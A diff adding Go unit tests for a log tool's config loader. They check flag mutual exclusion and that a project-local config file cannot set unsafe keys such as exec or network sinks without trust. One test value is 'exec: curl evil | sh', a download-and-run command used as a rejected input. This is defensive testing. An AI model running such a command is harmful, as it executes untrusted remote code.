@@ -0,0 +1,126 @@
+package config
+
+import (
+    "os"
+    "path/filepath"
+    "strings"
+    "testing"
+
+    "github.com/spf13/cobra"
+)
+
+// Writes a config file and loads it
+func loadConfig(t *testing.T, text string) *Config {
+    t.Helper()
+
+    f1 := filepath.Join(t.TempDir(), "config.yaml")
+    if err := os.WriteFile(f1, []byte(text), 0o600); err != nil {
+        t.Fatal(err)
+    }
+
+    cfg, err := Load(f1, false)
+    if err != nil {
+        t.Fatalf("unexpected error: %s", err)
+    }
+    return cfg
+}
+
+func TestApplyMutuallyExclusive(t *testing.T) {
+    tests := []struct {
+        name     string
+        config   string
+        args     []string
+        wrap     bool
+        truncate bool
+    }{
+        {"config only", "wrap: true", []string{}, true, true},
+        {"flag of the group", "wrap: true", []string{"--truncate"}, false, true},
+        {"other flag", "truncate: false", []string{"--wrap"}, true, true},
+        {"same flag", "wrap: true", []string{"--wrap=false"}, false, true},
+    }
+
+    for _, tt := range tests {
+        t.Run(tt.name, func(t *testing.T) {
+            wrap, truncate := false, true
+            cmd := &cobra.Command{Use: "test"}
+            cmd.Flags().BoolVar(&wrap, "wrap", false, "")
+            cmd.Flags().BoolVar(&truncate, "truncate", true, "")
+            cmd.MarkFlagsMutuallyExclusive("wrap", "truncate")
+
+            if err := cmd.Flags().Parse(tt.args); err != nil {
+                t.Fatal(err)
+            }
+            if err := loadConfig(t, tt.config).Apply(cmd.Flags(), ""); err != nil {
+                t.Fatalf("unexpected error: %s", err)
+            }
+            if wrap != tt.wrap || truncate != tt.truncate {
+                t.Errorf("wrap=%v truncate=%v, want wrap=%v truncate=%v", wrap, truncate, tt.wrap, tt.truncate)
+            }
+        })
+    }
+}
+
+func TestLocalUnsafeKeys(t *testing.T) {
+    tests := []struct {
+        name  string
+        user  string
+        local string
+        trust bool
+        err   string
+    }{
+        {"display keys", "", "show-time: true\ninclude: [OkHttp]\nlog-file: app.log", false, ""},
+        {"exec", "", "exec: curl evil | sh", false, "can not set 'exec'"},
+        {"network sink", "", "es_url: http://host:9200", false, "can not set 'es-url'"},
+        {"in a profile", "", "profiles:\n  debug:\n    alert-webhook: http://host/hook", false, "can not set 'alert-webhook'"},
+        {"trust itself", "", "trust-local-config: true\nexec: cat", false, "can not set"},
+        {"trusted by the flag", "", "exec: cat", true, ""},
+        {"trusted by the user file", "trust-local-config: true", "exec: cat", false, ""},
+        {"user file", "exec: cat\nmetrics-addr: :9102", "", false, ""},
+    }
+
+    for _, tt := range tests {
+        t.Run(tt.name, func(t *testing.T) {
+            home := t.TempDir()
+            t.Setenv("XDG_CONFIG_HOME", home)
+            if tt.user != "" {
+                if err := os.MkdirAll(filepath.Join(home, "adbcat"), 0o700); err != nil {
+                    t.Fatal(err)
+                }
+                if err := os.WriteFile(filepath.Join(home, "adbcat", "config.yaml"), []byte(tt.user), 0o600); err != nil {
+                    t.Fatal(err)
+                }
+            }
+
+            // The project-local file is searched from the working directory up
+            repo := t.TempDir()
+            work := filepath.Join(repo, "app", "src")
+            if err := os.MkdirAll(work, 0o700); err != nil {
+                t.Fatal(err)
+            }
+            if tt.local != "" {
+                if err := os.WriteFile(filepath.Join(repo, LocalFileName), []byte(tt.local), 0o600); err != nil {
+                    t.Fatal(err)
+                }
+            }
+            cwd, err := os.Getwd()
+            if err != nil {
+                t.Fatal(err)
+            }
+            if err := os.Chdir(work); err != nil {
+                t.Fatal(err)
+            }
+            defer os.Chdir(cwd)
+
+            _, err = Load("", tt.trust)
+            if tt.err == "" {
+                if err != nil {
+                    t.Fatalf("unexpected error: %s", err)
+                }
+                return
+            }
+            if err == nil || !strings.Contains(err.Error(), tt.err) {
+                t.Errorf("got error %v, want %q", err, tt.err)
+            }
+        })
+    }
+}